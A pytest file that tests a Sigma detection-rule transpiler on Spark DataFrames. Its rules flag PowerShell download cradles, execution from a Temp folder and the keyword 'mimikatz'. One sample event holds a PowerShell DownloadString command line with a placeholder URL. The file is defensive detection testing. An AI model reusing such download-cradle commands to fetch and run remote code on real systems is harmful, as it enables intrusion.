"""Sigma rule transpiler (sigma.md:20-60 parity) on public-spec examples."""

import pytest
from pyspark.sql import Row

from tenzir_spark.operators.sigma import sigma, sigma_multi

RULE_PROC = """
title: Suspicious PowerShell Download
detection:
  selection_img:
    Image|endswith:
      - '\\\\powershell.exe'
      - '\\\\pwsh.exe'
  selection_cmd:
    CommandLine|contains:
      - 'DownloadString'
      - 'Invoke-WebRequest'
  condition: selection_img and selection_cmd
"""

RULE_WILDCARD = """
title: Temp Path Execution
detection:
  selection:
    Image: 'C:\\\\Temp\\\\*'
  condition: selection
"""

RULE_KEYWORDS = """
title: Keyword Hunt
detection:
  keywords:
    - 'mimikatz'
  condition: keywords
"""

RULE_OF = """
title: One Of
detection:
  sel_a:
    EventID: 4624
  sel_b:
    EventID: 4625
  condition: 1 of sel_*
"""


@pytest.fixture(scope="module")
def events(spark):
    rows = [
        Row(EventID=1, Image=r"C:\Windows\System32\WindowsPowerShell\powershell.exe",
            CommandLine="powershell -c (New-Object Net.WebClient).DownloadString('http://x')"),
        Row(EventID=1, Image=r"C:\Windows\pwsh.exe", CommandLine="pwsh -File ok.ps1"),
        Row(EventID=1, Image=r"C:\Temp\evil.exe", CommandLine="evil"),
        Row(EventID=4625, Image=r"C:\Windows\smss.exe", CommandLine="x MIMIKATZ y"),
    ]
    return spark.createDataFrame(rows)


def test_and_of_selections(spark, events):
    out = sigma(events, RULE_PROC).collect()
    assert len(out) == 1
    assert out[0]["CommandLine"].startswith("powershell -c")
    assert out[0]["sigma_tag"] == "Suspicious PowerShell Download"


def test_wildcard_and_case_insensitive(spark, events):
    out = sigma(events, RULE_WILDCARD).collect()
    assert [r["Image"] for r in out] == [r"C:\Temp\evil.exe"]


def test_keyword_search(spark, events):
    out = sigma(events, RULE_KEYWORDS).collect()  # matches MIMIKATZ (case-insensitive)
    assert len(out) == 1 and out[0]["EventID"] == 4625


def test_one_of_pattern(spark, events):
    out = sigma(events, RULE_OF).collect()
    assert [r["EventID"] for r in out] == [4625]


def test_multi_rule_single_pass(spark, events):
    out = sigma_multi(events, [RULE_PROC, RULE_KEYWORDS, RULE_OF])
    rows = [(r["EventID"], r["sigma_tag"]) for r in out.collect()]
    assert (4625, "Keyword Hunt") in rows
    assert (4625, "One Of") in rows
    assert sum(1 for e, _ in rows if e == 1) == 1  # powershell row once
    # single pass: exactly one scan of the source in the plan
    import io
    from contextlib import redirect_stdout

    buf = io.StringIO()
    with redirect_stdout(buf):
        out.explain("formatted")
    tree = buf.getvalue().split("\n\n")[0]  # plan tree (details repeat nodes)
    assert tree.count("Scan") == 1
